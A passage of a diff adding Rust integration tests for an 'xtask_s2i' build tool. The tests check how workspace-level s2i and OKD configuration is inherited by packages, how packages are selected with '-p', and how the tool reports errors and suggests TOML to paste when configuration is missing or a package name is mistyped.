+    assert_eq!(api.okd.manifests_dir, "deploy/cluster");
+    assert_eq!(api.okd.tls, xtask_s2i::config::Tls::Reencrypt);
+    assert_eq!(api.okd.build_limits["memory"], "2Gi");
+    assert_eq!(api.okd.webhooks.len(), 1);
+    // Per-package keys are not inherited: each package keeps its own names and binary.
+    assert_eq!(api.bin, "api");
+    assert_eq!(
+        (
+            api.builder_image.as_str(),
+            api.app_image.as_str(),
+            api.runtime_image.as_str()
+        ),
+        ("api-builder", "api-app", "api")
+    );
+    assert_ne!(api.okd.context_dir, "not/inherited");
+
+    let worker = by_name["worker"];
+    assert_eq!(worker.port, Some(8080));
+    assert_eq!((worker.builder_user, worker.runtime_user), (2000, 3000));
+    assert_eq!(worker.env["TZ"], "UTC");
+    assert_eq!(worker.okd.namespace.as_deref(), Some("shop"));
+    assert_eq!(worker.okd.replicas, 2);
+    assert_eq!(worker.bin, "worker");
+    assert_eq!(worker.runtime_image, "worker");
+    assert_eq!(worker.tag, "edge");
+
+    // Both rendered, each into its own directory.
+    for name in ["api", "worker"] {
+        assert!(
+            ws.root()
+                .join(format!("target/s2i/{name}/runtime.Dockerfile"))
+                .is_file()
+        );
+    }
+}
+
+#[test]
+fn every_key_has_an_inheritance_rule_that_is_tested() {
+    // If a key is added to the configuration, this test (and WS_DEFAULTS above) must learn it.
+    let doc: toml_edit::DocumentMut = WS_DEFAULTS.parse().unwrap();
+    let s2i = &doc["workspace"]["metadata"]["s2i"];
+    for k in KEYS {
+        assert!(
+            s2i.get(k.key).is_some(),
+            "WS_DEFAULTS does not set `{}`",
+            k.key
+        );
+    }
+    for k in OKD_KEYS {
+        assert!(
+            s2i["okd"].get(k.key).is_some(),
+            "WS_DEFAULTS does not set `okd.{}`",
+            k.key
+        );
+    }
+}
+
+#[test]
+fn dash_p_selects_packages_and_an_unknown_name_lists_the_candidates() {
+    let ws = Ws::new(&[
+        (
+            "Cargo.toml",
+            "[workspace]\nmembers = [\"api\", \"worker\", \"lib\"]\nresolver = \"2\"\n",
+        ),
+        ("api/Cargo.toml", &member("api", "")),
+        ("api/src/main.rs", "fn main() {}\n"),
+        ("worker/Cargo.toml", &member("worker", "port = 1")),
+        ("worker/src/main.rs", "fn main() {}\n"),
+        (
+            "lib/Cargo.toml",
+            "[package]\nname = \"lib\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
+        ),
+        ("lib/src/lib.rs", "\n"),
+    ]);
+    let packages = |names: &[&str]| -> Vec<String> {
+        ws.args(|a| a.packages = names.iter().map(|s| s.to_string()).collect())
+            .execute(&Buffer::new())
+            .unwrap()
+            .plans
+            .iter()
+            .map(|p| p.package().to_string())
+            .collect()
+    };
+    assert_eq!(packages(&[]), ["api", "worker"]);
+    assert_eq!(packages(&["worker"]), ["worker"]);
+    assert_eq!(packages(&["worker", "api"]), ["worker", "api"]);
+
+    let before = ws.listing();
+    let msg = ws.fail(ws.args(|a| a.packages = vec!["wroker".into()]));
+    assert!(msg.contains("package `wroker`"), "{msg}");
+    assert!(msg.contains(&ws.manifest().display().to_string()), "{msg}");
+    assert!(msg.contains("`api`") && msg.contains("`worker`"), "{msg}");
+    assert!(!msg.contains("`lib`"), "`lib` has no configuration: {msg}");
+    assert!(msg.contains("note: "), "{msg}");
+    assert_eq!(before, ws.listing());
+}
+
+#[test]
+fn no_configured_package_is_a_teaching_error_with_toml_to_paste() {
+    let ws = Ws::new(&[(
+        "Cargo.toml",
+        "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
+    )]);
+    let before = ws.listing();
+    let msg = ws.fail(ws.args(|_| {}));
+    assert!(msg.contains(&ws.manifest().display().to_string()), "{msg}");
+    assert!(msg.contains("has `[package.metadata.s2i]`"), "{msg}");
+    assert!(msg.contains("note: "), "{msg}");
+    // The TOML in the note pastes as-is into a Cargo.toml and is a valid configuration.
+    let toml = msg
+        .lines()
+        .skip_while(|l| !l.trim_start().starts_with("[package.metadata.s2i]"))
+        .map(str::trim)
+        .collect::<Vec<_>>()
+        .join("\n");
+    assert!(!toml.is_empty(), "no TOML to paste in: {msg}");
+    assert_eq!(before, ws.listing());
+    let mut manifest = ws.read("Cargo.toml");
+    manifest.push('\n');
+    manifest.push_str(&toml);
+    ws.write("Cargo.toml", &manifest);
+    ws.run().expect("the pasted TOML works");
+}
